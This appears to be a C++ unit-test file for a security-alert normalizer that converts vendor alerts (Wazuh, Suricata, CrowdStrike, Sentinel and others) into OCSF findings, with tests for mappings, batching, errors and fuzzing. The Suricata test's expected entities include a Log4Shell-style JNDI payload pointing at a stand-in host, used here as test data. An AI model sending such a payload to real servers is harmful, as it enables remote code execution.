#include "engine/ingest/normalizer.hpp"

#include "engine/base/digest.hpp"
#include "tests/ingest/mappings.hpp"

#include <boost/json/parse.hpp>
#include <gmock/gmock.h>

#include <random>
#include <string>

namespace sallyport::ingest {
namespace {

using ::testing::Contains;
using ::testing::ElementsAre;
using ::testing::HasSubstr;
using ::testing::IsEmpty;
using ::testing::UnorderedElementsAre;

model::Alert of(const std::string& source) {
  const auto bytes = sample(source);
  auto alert = normalized(bytes);
  if (!alert) throw std::runtime_error{source + ": " + alert.error().detail};
  return *std::move(alert);
}

const json::value& field_at(const model::Alert& alert, std::string_view pointer) {
  static const json::value absent;
  json::error_code ec;
  static thread_local json::value root;
  root = alert.finding;
  const auto* found = root.find_pointer(pointer, ec);
  return found ? *found : absent;
}

std::string rfc3339(const model::Alert& alert) {
  return to_rfc3339(alert.time);
}

TEST(Normalizer, EverySourceGivesWhatOcsfRequires) {
  for (const std::string source :
       {"wazuh",        "suricata",   "guardduty", "okta",      "crowdstrike",      "defender",
        "sentinel",     "elastic",    "ocsf",      "falco",     "splunk",           "sentinelone",
        "securityhub",  "entra",      "osquery",   "sysmon",    "windows_eventlog", "google_scc",
        "github_audit", "cortex_xdr", "cef",       "fortigate", "paloalto",         "generic"}) {
    const auto bytes = sample(source);
    const auto alert = of(source);
    EXPECT_EQ(alert.source, source);
    EXPECT_EQ(alert.tenant, "acme");
    EXPECT_EQ(alert.received_at, received());
    EXPECT_EQ(alert.content_hash, content_hash(bytes));
    EXPECT_FALSE(alert.title.empty());
    EXPECT_FALSE(alert.detection.empty());
    EXPECT_EQ(field_at(alert, "/class_uid"), 2004);
    EXPECT_EQ(field_at(alert, "/category_uid"), 2);
    EXPECT_EQ(field_at(alert, "/type_uid"), 200401);
    EXPECT_EQ(field_at(alert, "/activity_id"), 1);
    EXPECT_EQ(field_at(alert, "/severity_id"), static_cast<int>(alert.severity));
    EXPECT_EQ(field_at(alert, "/time"), alert.time.time_since_epoch().count() / 1000);
    EXPECT_EQ(field_at(alert, "/metadata/uid"), json::string{alert.uid});
    EXPECT_EQ(field_at(alert, "/finding_info/uid"), json::string{alert.uid});
    EXPECT_EQ(field_at(alert, "/finding_info/title"), json::string{alert.title});
    EXPECT_TRUE(field_at(alert, "/metadata/product/vendor_name").is_string());
    EXPECT_TRUE(field_at(alert, "/metadata/version").is_string());
    EXPECT_TRUE(field_at(alert, "/observables").is_array());
    EXPECT_EQ(field_at(alert, "/raw_data"), json::string{bytes});
  }
}

TEST(Normalizer, Wazuh) {
  const auto alert = of("wazuh");
  EXPECT_EQ(alert.uid, "1795166043.8812733");
  EXPECT_EQ(alert.severity, model::Severity::medium);
  EXPECT_EQ(alert.detection, "5712");
  EXPECT_EQ(rfc3339(alert), "2026-11-20T09:14:03.512000Z");
  EXPECT_THAT(alert.techniques, ElementsAre("T1110"));
  EXPECT_EQ(field_at(alert, "/finding_info/attacks/0/tactic/uid"), "TA0006");
  EXPECT_EQ(field_at(alert, "/src_endpoint/port"), 51514);
  // The name that was typed at the prompt is the attacker's text.
  EXPECT_THAT(entities(alert),
              UnorderedElementsAre("host web-03 device",
                                   "ip 10.20.0.13 device",
                                   "user oracle actor?",
                                   "ip 185.220.101.4 src"));
}

TEST(Normalizer, Suricata) {
  const auto alert = of("suricata");
  EXPECT_EQ(alert.uid, alert.content_hash) << "EVE has no id of an alert";
  EXPECT_EQ(alert.detection, "2034647");
  EXPECT_EQ(alert.severity, model::Severity::high);
  EXPECT_EQ(rfc3339(alert), "2026-11-20T09:31:44.120331Z");
  EXPECT_THAT(alert.techniques, ElementsAre("T1190"));
  EXPECT_EQ(field_at(alert, "/action_id"), 2);
  EXPECT_EQ(field_at(alert, "/dst_endpoint/port"), 80);
  EXPECT_THAT(
      entities(alert),
      UnorderedElementsAre("ip 203.0.113.77 src",
                           "ip 10.20.0.13 dst",
                           "domain evil.example mentioned?",
                           "url http://EVIL.example:8080/login?x=${jndi:ldap://evil.example/a} "
                           "mentioned?"));
}

TEST(Normalizer, GuardDutyInsideEventBridge) {
  const auto alert = of("guardduty");
  EXPECT_EQ(alert.uid, "16afba5c5c43e07c9e3e5e2e544e95df");
  EXPECT_EQ(alert.severity, model::Severity::high);
  EXPECT_EQ(alert.detection, "Backdoor:EC2/C&CActivity.B");
  EXPECT_THAT(alert.techniques, ElementsAre("T1071"));
  EXPECT_EQ(field_at(alert, "/finding_info/attacks/0/tactic/uid"), "TA0011");
  EXPECT_EQ(field_at(alert, "/cloud/account/uid"), "111122223333");
  EXPECT_EQ(field_at(alert, "/resources/0/uid"), "i-0c1b2a3d4e5f60718");
  EXPECT_EQ(field_at(alert, "/count"), 2);
  EXPECT_EQ(field_at(alert, "/src_endpoint"), nullptr) << "outbound: nobody came";
  EXPECT_THAT(entities(alert),
              UnorderedElementsAre("host i-0c1b2a3d4e5f60718 device",
                                   "host batch-7 device?",
                                   "ip 10.0.3.27 device",
                                   "ip 198.51.100.24 device",
                                   "ip 203.0.113.200 dst"));
}

TEST(Normalizer, Okta) {
  const auto alert = of("okta");
  EXPECT_EQ(alert.uid, "5f2d6e0e-c5b7-11f1-9d3a-0b8a9c1d2e3f");
  EXPECT_EQ(alert.severity, model::Severity::medium) << "Okta calls nearly everything INFO";
  EXPECT_THAT(alert.techniques, ElementsAre("T1556.006"));
  EXPECT_EQ(field_at(alert, "/actor/session/uid"), "102bT4mKXeCRJ6eEtd5Aqqqqw");
  EXPECT_THAT(entities(alert),
              UnorderedElementsAre("user mira.okafor@acme.example actor",
                                   "ip 198.51.100.231 src",
                                   "user j.brandt@acme.example target"));
}

TEST(Normalizer, CrowdStrike) {
  const auto alert = of("crowdstrike");
  EXPECT_EQ(alert.uid, "d1e2f3a4b5c6:ind:7c2f9d1e0b3a4c5d8e6f:98765-10303-2211");
  EXPECT_EQ(alert.title, "RansomwareFileEncryption");
  EXPECT_EQ(alert.severity, model::Severity::critical);
  EXPECT_EQ(alert.detection, "10303");
  EXPECT_THAT(alert.techniques, ElementsAre("T1486"));
  EXPECT_EQ(field_at(alert, "/process/pid"), 7712);
  EXPECT_EQ(field_at(alert, "/process/file/hashes/0/algorithm_id"), 1);
  EXPECT_EQ(field_at(alert, "/process/file/hashes/0/value"), "9e107d9d372bb6826bd81d3542a419d6");
  EXPECT_THAT(entities(alert), Contains("host WKS-0042 device"));
  EXPECT_THAT(entities(alert), Contains("user mira actor"));
  EXPECT_THAT(
      entities(alert),
      Contains("hash d7a8fbb307d7809469ca9abcb0082e4f8d5651e46d3cdb762d02d0bf37c9e592 process"));
}

TEST(Normalizer, Defender) {
  const auto alert = of("defender");
  EXPECT_EQ(alert.severity, model::Severity::high);
  EXPECT_THAT(alert.techniques, ElementsAre("T1564.001"));
  EXPECT_EQ(field_at(alert, "/finding_info/attacks/0/tactic/name"), "Defense Evasion");
  EXPECT_EQ(field_at(alert, "/status_id"), 1);
  EXPECT_EQ(field_at(alert, "/process/file/path"), "C:\\ProgramData\\temp\\MsSense.exe");
  EXPECT_EQ(field_at(alert, "/process/file/type_id"), 1);
  EXPECT_THAT(entities(alert), Contains("host srv-fin-01.acme.example device"));
  EXPECT_THAT(entities(alert), Contains("user svc-backup actor"));
  EXPECT_THAT(entities(alert), Contains("ip 203.0.113.66 mentioned"));
}

TEST(Normalizer, SentinelWithEntitiesAsText) {
  const auto alert = of("sentinel");
  EXPECT_EQ(alert.uid, "2d4f7b1a-90a2-9a1e-f4d1-6f2c8a5e7b31");
  EXPECT_EQ(alert.severity, model::Severity::medium);
  EXPECT_THAT(alert.techniques, ElementsAre("T1078", "T1496"));
  EXPECT_EQ(field_at(alert, "/device/hostname"), "vm-jump-1");
  EXPECT_THAT(entities(alert), Contains("host vm-jump-1 device"));
  EXPECT_THAT(entities(alert), Contains("user d.abel actor"));
  EXPECT_THAT(entities(alert), Contains("ip 198.51.100.77 mentioned"));
  EXPECT_THAT(
      entities(alert),
      Contains("hash 2cf24dba5fb0a30e26e83b2ac5b9e29e1b161e5c1fa7425e73043362938b9824 file"));
}

TEST(Normalizer, SentinelWithEntitiesAlreadyParsedIsTheSame) {
  auto native = json::parse(sample("sentinel"));
  const auto before = entities(of("sentinel"));
  for (const auto* field : {"Entities", "ExtendedProperties", "Techniques"})
    native.at(field) = json::parse(native.at(field).as_string());
  const auto after = normalized(json::serialize(native));
  ASSERT_TRUE(after) << after.error().detail;
  EXPECT_EQ(entities(*after), before);
}

TEST(Normalizer, ElasticWithFlatAndNestedKeysInsideASearchHit) {
  const auto alert = of("elastic");
  EXPECT_EQ(alert.uid, "5a7cfa1d0e6b4f9c8d2e1f3a4b5c6d7e");
  EXPECT_EQ(alert.title, "Suspicious CertUtil Commands");
  EXPECT_EQ(alert.severity, model::Severity::high);
  EXPECT_EQ(rfc3339(alert), "2026-11-20T16:19:58.001000Z");
  EXPECT_THAT(alert.techniques, ElementsAre("T1140"));
  EXPECT_EQ(field_at(alert, "/device/ip"), "10.20.4.108") << "loopback and fe80:: name no host";
  EXPECT_THAT(entities(alert), Contains("host WKS-0108 device"));
  EXPECT_THAT(entities(alert), Contains("ip 10.20.4.108 device"));
  EXPECT_THAT(entities(alert), Contains("ip 203.0.113.9 dst"));
}

TEST(Normalizer, TwoElasticRulesOnOneEventAreTwoAlerts) {
  const auto uid = [](std::string_view rule) {
    const auto alert = normalized(
        R"({"kibana.alert.rule.name":"r","event":{"id":"e-1"},"kibana.alert.rule.uuid":")" +
        std::string{rule} + "\"}");
    return alert ? alert->uid : alert.error().detail;
  };
  EXPECT_EQ(uid("rule-a"), "rule-a:e-1");
  EXPECT_EQ(uid("rule-b"), "rule-b:e-1");
}

TEST(Normalizer, AFalconEventIsAsOldAsItsDetectionNotAsItsProcess) {
  const auto alert = normalized(
      R"({"metadata":{"eventType":"DetectionSummaryEvent","eventCreationTime":1795180805000},)"
      R"("event":{"DetectName":"d","DetectId":"ldt:1","SeverityName":"High","ProcessStartTime":1780000000}})");
  ASSERT_TRUE(alert) << alert.error().detail;
  EXPECT_EQ(rfc3339(*alert), "2026-11-20T13:20:05Z");
}

TEST(Normalizer, APathOfASentinelFileHasTheSeparatorsOfItsSystem) {
  const auto alert = normalized(
      R"({"SystemAlertId":"s","AlertSeverity":"High","AlertName":"n","Entities":[)"
      R"({"Type":"file","Directory":"/tmp","Name":"m.sh"},{"Type":"file","Directory":"C:\\Temp","Name":"m.exe"}]})");
  ASSERT_TRUE(alert) << alert.error().detail;
  EXPECT_THAT(entities(*alert),
              UnorderedElementsAre("file /tmp/m.sh file", "file C:\\Temp\\m.exe file"));
}

TEST(Normalizer, AnAlertOfAKnownShapeWithoutItsIdIsStillRecognised) {
  for (const auto& [source, id] :
       {std::pair{"crowdstrike", "composite_id"}, {"sentinel", "SystemAlertId"}}) {
    auto native = json::parse(sample(source));
    native.as_object().erase(id);
    const auto alert = normalized(json::serialize(native));
    ASSERT_TRUE(alert) << alert.error().detail;
    EXPECT_EQ(alert->source, source);
    EXPECT_EQ(alert->uid, alert->content_hash);
  }
}

TEST(Normalizer, AnAlertWithoutWhatProductsCanLeaveOutIsStillRecognised) {
  const auto without = [](const std::string& source, std::initializer_list<const char*> path) {
    auto native = json::parse(sample(source));
    auto* at = &native.as_object();
    for (const auto* key : path) {
      if (key == *(path.end() - 1))
        at->erase(key);
      else
        at = &at->at(key).as_object();
    }
    const auto alert = normalized(json::serialize(native));
    EXPECT_TRUE(alert) << source << ": " << alert.error().detail;
    EXPECT_EQ(alert ? alert->source : "", source);
  };
  without("wazuh", {"manager"});
  without("falco", {"output"});
  without("falco", {"output_fields"});
  without("falco", {"priority"});
  without("google_scc", {"finding", "parent"});
  without("google_scc", {"finding", "resourceName"});
  without("google_scc", {"finding", "state"});
}

std::string batch_of(std::string_view list, int n) {
  auto one = json::parse(sample("okta")).as_object();
  json::array alerts;
  for (int i = 0; i < n; ++i) {
    one["uuid"] = "u" + std::to_string(i);
    alerts.emplace_back(one);
  }
  return json::serialize(json::object{{"eventType", "com.okta.event_hook"},
                                      {"data", json::object{{list, std::move(alerts)}}}});
}

TEST(Normalizer, NoAlertOfABatchIsLost) {
  const auto two = batch_of("events", 2);
  EXPECT_EQ(normalized(two).error().detail,
            "2 alerts in one, in `data.events`: hand them over one by one");
  const auto native = json::parse(two);
  const auto parts = shipped().apart(native, std::nullopt);
  ASSERT_EQ(parts.size(), 2U);
  EXPECT_EQ(normalized(parts[0])->uid, "u0");
  EXPECT_EQ(normalized(parts[1])->uid, "u1");
  EXPECT_EQ(shipped().apart(native, "okta"), parts);
  EXPECT_THAT(shipped().apart(native, "wazuh"), IsEmpty());

  EXPECT_EQ(normalized(batch_of("events", 1))->uid, "u0") << "one is that one";
  EXPECT_FALSE(normalized(batch_of("events", 0)));
  EXPECT_FALSE(normalized(batch_of("elsewhere", 2)));
  EXPECT_THAT(shipped().apart(json::parse(sample("okta")), std::nullopt), IsEmpty());
}

TEST(Normalizer, AnEventOfSecurityHubCanHoldSeveralFindings) {
  auto event = json::parse(sample("securityhub"));
  auto& findings = event.at("detail").at("findings").as_array();
  ASSERT_EQ(findings.size(), 1U);
  findings.push_back(findings.front());
  findings.back().as_object()["Id"] = "another";
  const auto parts = shipped().apart(event, std::nullopt);
  ASSERT_EQ(parts.size(), 2U);
  EXPECT_EQ(normalized(parts[1])->uid, "another");
}

TEST(Normalizer, AnOcsfFindingKeepsItsOwnValues) {
  const auto alert = of("ocsf");
  EXPECT_EQ(alert.title, "Root account used without MFA");
  EXPECT_EQ(alert.severity, model::Severity::high);
  EXPECT_THAT(alert.techniques, ElementsAre("T1078.004"));
  EXPECT_EQ(field_at(alert, "/unmapped/class_uid"), 2001);
  EXPECT_EQ(field_at(alert, "/metadata/version"), "1.0.0");
  EXPECT_EQ(field_at(alert, "/metadata/product/name"), "Posture");
  EXPECT_EQ(field_at(alert, "/cloud/provider"), "AWS");
  EXPECT_THAT(
      entities(alert),
      UnorderedElementsAre("user root actor", "ip 2001:db8::5 src", "ip 203.0.113.4 mentioned"));
}

TEST(Normalizer, GenericNamesNothingThatIsGrounded) {
  const auto alert = of("generic");
  EXPECT_EQ(alert.severity, model::Severity::critical);
  EXPECT_THAT(alert.techniques, ElementsAre("T1071.001"));
  EXPECT_THAT(entities(alert),
              UnorderedElementsAre("host db-7 device?", "ip 10.1.1.7 src?", "ip 203.0.113.8 dst?"));
  EXPECT_EQ(field_at(alert, "/actor"), nullptr) << "N/A is nobody";
}

TEST(Normalizer, WhatHasNoTitleIsRefusedWithWhatIsMissing) {
  EXPECT_THAT(normalized(R"({"a":1})").error().detail, HasSubstr("has no title"));
  EXPECT_THAT(normalized(R"({"title":""})").error().detail,
              HasSubstr("generic alert without a title: nothing in title, alert_name"));
  EXPECT_THAT(normalized(R"({"title":{"a":1}})").error().detail, HasSubstr("without a title"));
}

TEST(Normalizer, ASourceThatDoesNotFitIsAnErrorAndNoGuess) {
  EXPECT_EQ(normalized(sample("okta"), "wazuh").error().detail,
            "not an alert of wazuh: it has no rule.level, rule.id, rule.description");
  EXPECT_THAT(normalized(sample("okta"), "suricata").error().detail, HasSubstr("not an alert of"));
  const auto unknown = normalized(sample("okta"), "wazzuh");
  EXPECT_EQ(unknown.error().code, Errc::not_found);
  EXPECT_THAT(unknown.error().detail,
              HasSubstr("known: cef cortex_xdr crowdstrike defender detector elastic"));
}

TEST(Normalizer, ARedeliveryHasTheSameUidAndAnotherAlertHasNot) {
  auto other = sample("suricata");
  other.replace(other.find("41022"), 5, "41023");
  EXPECT_EQ(of("suricata").uid, of("suricata").uid);
  EXPECT_NE(normalized(other)->uid, of("suricata").uid);
}

TEST(Normalizer, AnUnreadableTimeIsSaidToBeTheTimeOfArrival) {
  const auto alert = normalized(R"({"title":"x","timestamp":"soon"})");
  ASSERT_TRUE(alert);
  EXPECT_EQ(alert->time, received());
  EXPECT_EQ(field_at(*alert, "/unmapped/time_is"), "when it was received");
}

TEST(Normalizer, ValuesOfAnotherTypeAreLeftOut) {
  const auto alert = normalized(
      R"({"title":"x","src_port":"http","severity":[1],"host":{"a":1},"src_ip":"not an address","pid":-1})");
  ASSERT_TRUE(alert);
  EXPECT_EQ(alert->severity, model::Severity::unknown);
  EXPECT_EQ(field_at(*alert, "/src_endpoint"), nullptr);
  EXPECT_THAT(alert->entities, IsEmpty());
}

TEST(Normalizer, ManyEntitiesAreBounded) {
  std::string bytes = R"({"title":"x","ips":[)";
  for (int i = 0; i < 5000; ++i)
    bytes += (i ? "," : "") +
             ("\"10.0." + std::to_string(i / 250) + "." + std::to_string(1 + i % 250)) + "\"";
  const auto alert = normalized(bytes + "]}");
  ASSERT_TRUE(alert);
  EXPECT_EQ(alert->entities.size(), 64U);
}

TEST(NormalizerFuzz, NoMutationOfASampleCrashesOrLosesTheOriginal) {
  std::mt19937 random{5};
  for (const std::string source :
       {"wazuh", "crowdstrike", "defender", "sentinel", "ocsf", "elastic"}) {
    const auto original = sample(source);
    for (int round = 0; round < 300; ++round) {
      auto bytes = original;
      for (int n = 0; n < 3; ++n) {
        const auto where = random() % bytes.size();
        static constexpr std::string_view pieces[] = {
            "null", "[]", "{}", "\"\"", "1e5", "[[{}]]", "-1", "true"};
        const auto colon = bytes.find(':', where);
        if (colon == std::string::npos) continue;
        const auto end = bytes.find_first_of(",}", colon);
        if (end == std::string::npos) continue;
        bytes.replace(colon + 1, end - colon - 1, pieces[random() % std::size(pieces)]);
      }
      const auto alert = normalized(bytes);
      if (!alert) {
        EXPECT_FALSE(alert.error().detail.empty());
        continue;
      }
      EXPECT_EQ(alert->finding.at("raw_data"), json::string{bytes});
      EXPECT_NO_THROW(static_cast<void>(json::parse(to_json(*alert))));
    }
  }
}

}  // namespace
}  // namespace sallyport::ingest
